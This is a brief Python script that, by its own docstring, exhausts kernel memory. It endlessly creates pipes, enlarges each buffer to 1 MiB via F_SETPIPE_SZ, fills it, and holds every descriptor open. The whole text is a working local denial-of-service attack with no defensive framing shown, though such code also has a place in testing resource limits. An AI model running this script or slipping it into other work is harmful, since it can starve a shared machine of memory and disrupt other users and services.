"""Takes the kernel's memory by filling pipes."""

import fcntl
import os

hoard = []
while True:
    read, write = os.pipe()
    hoard += [read, write]
    try:
        fcntl.fcntl(write, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError:
        pass
    os.set_blocking(write, False)
    os.write(write, b"x" * (1 << 20))
